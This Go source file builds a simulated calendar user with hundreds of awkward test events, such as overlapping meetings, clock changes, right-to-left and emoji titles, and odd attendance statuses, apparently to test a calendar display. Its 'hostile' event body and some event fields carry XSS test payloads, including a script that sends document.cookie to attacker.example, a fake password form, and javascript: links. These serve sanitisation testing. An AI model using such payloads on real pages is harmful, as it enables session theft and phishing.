package simulator

import (
	"fmt"
	"time"
)

// marcus has everything that is awkward to draw or to show, and in the week
// of now more than three hundred events.
func marcus(now time.Time) *Person {
	p := newPerson("Marcus Reed", "marcus.reed@contoso.example", "Support lead in New York: 300 events this week, and every odd kind of them", settings{
		zone: "Eastern Standard Time", locale: "en-US", language: "English (United States)", timeFormat: "h:mm tt", dateFormat: "M/d/yyyy",
		hours: hours{start: "08:00", end: "18:00", days: []string{"monday", "tuesday", "wednesday", "thursday", "friday", "saturday"}, bias: 300, custom: true},
	})
	c := &p.mailbox.card
	c.title, c.department, c.office = "Director, Customer Support", "Support <EMEA & Americas>", "New York, 11 Hudson Sq"
	c.city, c.country, c.phones = "New York", "United States", []string{"+1 212 555 0119", "+1 212 555 0120"}
	c.photo = true
	c.managerName, c.managerTitle, c.managerAddress = "Dana Whitfield", "Chief Operating Officer", "dana.whitfield@contoso.example"
	c.managerObject = keyOf("person", c.managerAddress).guid()
	a := newAuthor(p, now)
	p.mailbox.settings.away = away{status: "scheduled", message: "<html><body><p>I am travelling and answer in the evening.</p></body></html>",
		from: a.monday.AddDate(0, 0, 7), until: a.monday.AddDate(0, 0, 12)}
	p.mailbox.categories = []category{{"Escalation", "preset0"}, {"Hiring", "preset3"}, {"Blue category", "preset7"}, {"No colour", "none"}}
	a.write(marcusWork...)
	a.write(awkward...)
	a.write(clockChanges(now, locate("Eastern Standard Time"))...)
	rota := a.in("My Calendars", calendar{name: "Support rota", color: "lightRed", hex: "#D13438", seesPrivate: true, canEdit: true})
	rota.write(supportRota()...)
	rota.write(ev(weekly(1, "Mon Tue Wed Thu Fri", "07:30", 30), "Rota hand-over from Berlin", with("Paula")))
	a.in("My Calendars", calendar{name: "Calendar (old phone)", color: "auto", isDefault: true, seesPrivate: true, canEdit: true}).write(
		ev(weekly(2, "Sat", "09:00", 60), "Soccer: Maya's team", at("Pier 40")), ev(yearly(time.June, 21), "Maya's birthday"))
	a.in("Other Calendars", calendar{name: "United States holidays", color: "lightGray", hex: "#8A8886", seesPrivate: true}).write(americanHolidays...)
	for _, team := range []string{"Chicago", "Denver", "Austin", "Seattle", "Toronto", "Boston", "Miami", "Phoenix", "Portland"} {
		a.in("My Calendars", calendar{name: "Office " + team, color: "lightYellow", seesPrivate: true}).write(
			ev(nth("second", "Wed", "12:00", 60), "Lunch and learn, "+team), ev(someDays(9, len(team), "Mon", 1), team+" office closed"))
	}
	return p
}

var marcusWork = []row{
	ev(weekly(1, "Mon Tue Wed Thu Fri", "09:00", 20), "Support stand-up", with("Grace Luis Owen"), teams).skip(0, "Tue"),
	ev(weekly(1, "Mon", "10:00", 60), "Escalations", with("Grace Luis Dana? Owen-"), room("Hudson"), cat("Escalation"), urgent),
	ev(weekly(1, "Tue", "11:00", 30), "1:1 Grace", with("Grace")),
	ev(weekly(1, "Tue", "14:00", 60), "Hiring committee", with("Grace Luis"), cat("Hiring", "Deleted category")),
	ev(weekly(1, "Wed", "10:30", 45), "Product leadership sync", by("Henrik"), with("Marcus Lena Dana"), teams, inZone("W. Europe Standard Time")).
		move(0, "Wed", once(0, "Wed", "17:30", 45)),
	ev(weekly(1, "Thu", "13:00", 90), "Customer council", with("Elin Rafael? Victoria~"), teams),
	ev(weekly(1, "Fri", "12:00", 60), "Lunch with the team", at("Food hall, 2nd floor"), shows("free")),
	ev(weekly(2, "Thu", "16:00", 60), "Board prep", with("Dana Board~"), kept("confidential"), room("Corner office")),
	ev(some(2, 0, "Wed", "09:30", 50), "Customer call: Tailspin outage follow-up", with("Victoria Owen?"), at("https://fabrikam.zoom.us/j/88104412398?pwd=c2VjcmV0")),
	ev(some(3, 0, "Mon", "15:00", 45), "Interview: support engineer", with("Luis"), cat("Hiring")),
	ev(some(3, 1, "Thu", "10:00", 45), "Tooling budget", with("Dana")),
	ev(daily("06:30", 45), "Run", shows("free"), kept("personal")),
	ev(weekly(1, "Mon", "17:00", 30).ends(-2), "Migration war room", with("Owen Tarek")),
	ev(weekly(1, "Wed", "15:30", 30).times(-2, 6), "Onboarding Priya, session", with("Priya")),
}

var awkward = []row{
	// Twelve at once, and two that touch them.
	ev(once(0, "Wed", "13:00", 60), "Severity 1: war room", cat("Escalation"), urgent, teams),
	ev(once(0, "Wed", "13:00", 30), "Call: Adventure Works"), ev(once(0, "Wed", "13:00", 90), "Call: Wide World Importers"),
	ev(once(0, "Wed", "13:05", 55), "Status page update"), ev(once(0, "Wed", "13:10", 20), "Quick sync with legal"),
	ev(once(0, "Wed", "13:15", 45), "Press statement"), ev(once(0, "Wed", "13:15", 15), "Page the database on-call"),
	ev(once(0, "Wed", "13:20", 100), "Vendor bridge"), ev(once(0, "Wed", "13:25", 35), "Refund policy"),
	ev(once(0, "Wed", "13:25", 5), "Ring Owen"), ev(once(0, "Wed", "13:26", 60), "Read-out draft"), ev(once(0, "Wed", "13:27", 120), "Log review"),
	ev(once(0, "Wed", "14:00", 30), "Breather", shows("free")), ev(once(0, "Wed", "12:00", 60), "Lunch?", shows("tentative")),

	ev(weekly(1, "Tue", "22:00", 480), "On call, overnight", shows("oof")),
	ev(once(0, "Thu", "23:30", 60), "Database failover"), ev(once(0, "Fri", "20:00", 52*60), "Data centre move"),
	ev(once(0, "Mon", "16:00", 0), "Reminder: send the report"), ev(once(0, "Fri", "00:00", 0), "Certificate expires"),
	ev(once(0, "Mon", "16:05", 1), "One minute of silence"),
	ev(days(-1, "Wed", 21), "Parental leave: Luis", shows("oof")), ev(days(0, "Sat", 3), "Long weekend in the Catskills", shows("oof"), kept("private")),
	ev(once(0, "Tue", "00:00", 24*60), "Freeze, midnight to midnight but not all-day"),

	ev(once(0, "Tue", "10:00", 30), ""), ev(days(0, "Thu", 1), ""), ev(once(0, "Thu", "15:00", 30), "   "),
	ev(once(0, "Thu", "11:00", 45), `<script>alert("subject")</script> & "quotes" <b>bold</b>`, at(`<img src=x onerror=alert(1)>`, `javascript:alert(2)`), rawBody(hostile),
		by("Victoria"), with("Marcus"), cat(`<i>Category</i>`, "Escalation")),
	ev(once(0, "Thu", "12:00", 30), "Quarterly business review of every regional support organisation including the outsourced partners, the follow-the-sun model, the escalation matrix, the knowledge base and all that was left over from the last three quarters – please read the pre-read before you come, it is long but worth it", with("Grace")),
	ev(once(0, "Thu", "14:30", 30), "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft"),
	ev(once(0, "Fri", "10:00", 60), "اجتماع فريق الدعم مع القاهرة (Q4)", by("Omar"), with("Marcus Nadia"), at("القاهرة، مكتب ٣")),
	ev(once(0, "Fri", "11:00", 60), "פגישת לקוח: סקירת תקלות 2.0", with("Owen"), at("תל אביב")),
	ev(once(0, "Fri", "09:30", 25), "🎉 Launch party 🥳 – 発売記念", cat("Blue category")),
	ev(once(0, "Mon", "11:15", 30), "\u202eright-to-left override\u202c in a title"),

	ev(once(0, "Mon", "14:00", 60), "Canceled: Vendor review", by("Rafael"), with("Marcus"), cancelled),
	ev(once(0, "Mon", "13:00", 30), "Physio", kept("private"), at("W 23rd St")),
	ev(once(0, "Tue", "15:30", 30), "Survey tool: second demo", by("Rafael"), with("Marcus-"), answered("declined"), shows("free")),
	ev(once(0, "Tue", "16:00", 60), "Town hall rehearsal", by("Board"), with("Marcus~"), answered("notResponded"), shows("tentative"), unlisted),
	ev(once(0, "Tue", "17:00", 30), "Maybe: drinks with Fabrikam", by("Elin"), with("Marcus?"), answered("tentativelyAccepted"), shows("tentative")),
	ev(days(0, "Mon", 1), "At the Jersey office", shows("workingElsewhere")), ev(once(0, "Fri", "13:00", 240), "Conference: Support Driven", shows("oof"), address("Javits Center", "429 11th Ave", "New York", "United States")),
	ev(once(0, "Mon", "12:00", 30), "Status nobody knows", shows("unknown")),
	ev(once(0, "Fri", "16:00", 30), "A kind of busy that came later", shows("deepFocus"), kept("secret"), extra(map[string]any{"isRoomRequested": true, "places": map[string]any{"count": 2}})),
	ev(once(0, "Mon", "09:30", 25), "Everyone: new ticket form", by("Board"), crowd(40), teams, attached),
	ev(once(0, "Tue", "08:00", 60), "Sydney hand-over", inZone("AUS Eastern Standard Time")),
	ev(once(0, "Thu", "09:30", 60), "Mumbai partner call", inZone("India Standard Time"), teams),
	ev(once(0, "Wed", "18:00", 30), "Kathmandu vendor", inZone("Nepal Standard Time")),
	ev(days(0, "Wed", 1), "Tokyo office closed", inZone("Tokyo Standard Time")),
}

// hostile is a body with everything that must not reach a page.
const hostile = `<html><head><style>body{display:none} .daybook{position:fixed}</style><base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/"></head>
<body onload="alert('load')" background="https://attacker.example/bg.png"><script>document.location='https://attacker.example/?'+document.cookie</script>
<p style="background:url(https://attacker.example/css.png);position:fixed;top:0" onclick="alert(1)">Please review the <a href="javascript:alert('link')">attached contract</a> or <a href="data:text/html,<script>alert(1)</script>">open it here</a>.</p>
<img src="https://tracker.example/pixel.gif?u=marcus" width="1" height="1" alt=""><img src="cid:image001.png@01DB" alt="logo"><svg onload="alert(2)"><circle r="9"/></svg>
<iframe src="https://attacker.example/frame"></iframe><object data="https://attacker.example/o.swf"></object><form action="https://attacker.example/login"><input name="password" type="password"><button>Sign in</button></form>
<table><tr><td>Line one</td><td><a href="https://contoso.example/contract?a=1&amp;b=2">Contract</a></td></tr></table><!--[if mso]><p>conditional</p><![endif]--><p>Last words of the body.</p></body></html>`

// crowd invites so many people of a mailing list, with every kind of answer.
func crowd(count int) detail {
	answers := []string{"accepted", "accepted", "none", "tentativelyAccepted", "declined", "notResponded"}
	return func(e *Event) {
		for n := range count {
			name := fmt.Sprintf("%s %s", firstNames[n%len(firstNames)], lastNames[n/len(firstNames)*3+n%3])
			a := Attendee{Contact: Contact{name, fmt.Sprintf("agent%02d@contoso.example", n+1)}, Response: answers[n%len(answers)]}
			if n%5 == 4 {
				a.Type = "optional"
			}
			e.Attendees = append(e.Attendees, a)
		}
	}
}

var (
	firstNames = []string{"Ana", "Ben", "Chloe", "Dev", "Eva", "Femi", "Gus", "Hana", "Ivo", "June"}
	lastNames  = []string{"Abbott", "Baker", "Castillo", "Diaz", "Ellis", "Fischer", "Gupta", "Hughes", "Ito", "Jones", "Kaya", "Lopez", "Moore"}
)

// supportRota is this week's plan of three telephone lines, half an hour each.
func supportRota() []row {
	var rows []row
	for n, day := range dayNames[:5] {
		for slot := range 18 {
			clock := fmt.Sprintf("%02d:%02d", 8+slot/2, slot%2*30)
			for line := range 3 {
				agent := firstNames[(slot+3*line+n)%len(firstNames)]
				rows = append(rows, ev(once(0, day, clock, 30), fmt.Sprintf("Line %d: %s", line+1, agent), shows("free")))
			}
		}
	}
	return rows
}

// clockChanges has events around the hours that the zone's clocks skip and
// repeat, in the year before and after now.
func clockChanges(now time.Time, loc *time.Location) []row {
	var rows []row
	for day := midnight(now.AddDate(-1, 0, 0)); day.Before(now.AddDate(1, 0, 0)); day = day.AddDate(0, 0, 1) {
		from := time.Date(day.Year(), day.Month(), day.Day(), 0, 0, 0, 0, loc)
		if from.AddDate(0, 0, 1).Sub(from) == 24*time.Hour {
			continue
		}
		on := func(clock string, minutes int) when {
			return func(time.Time) []Event { return []Event{span(day, clock, minutes)} }
		}
		rows = append(rows,
			ev(on("00:30", 60), "Backups before the clocks change", shows("free")),
			ev(on("01:30", 60), "Watch the clocks change", with("Owen")),
			ev(on("03:00", 30), "Check the scheduled jobs", with("Owen")),
			ev(func(time.Time) []Event { return []Event{wholeDays(day, 1)} }, "Clocks change"),
		)
	}
	return rows
}

var americanHolidays = []row{
	ev(yearly(time.January, 1), "New Year's Day"), ev(yearlyNth(time.January, "third", "Mon"), "Martin Luther King Jr. Day"),
	ev(yearlyNth(time.February, "third", "Mon"), "Presidents' Day"), ev(yearlyNth(time.May, "last", "Mon"), "Memorial Day"),
	ev(yearly(time.June, 19), "Juneteenth"), ev(yearly(time.July, 4), "Independence Day"),
	ev(yearlyNth(time.September, "first", "Mon"), "Labor Day"), ev(yearlyNth(time.October, "second", "Mon"), "Columbus Day"),
	ev(yearly(time.November, 11), "Veterans Day"), ev(yearlyNth(time.November, "fourth", "Thu"), "Thanksgiving"), ev(yearly(time.December, 25), "Christmas Day"),
}
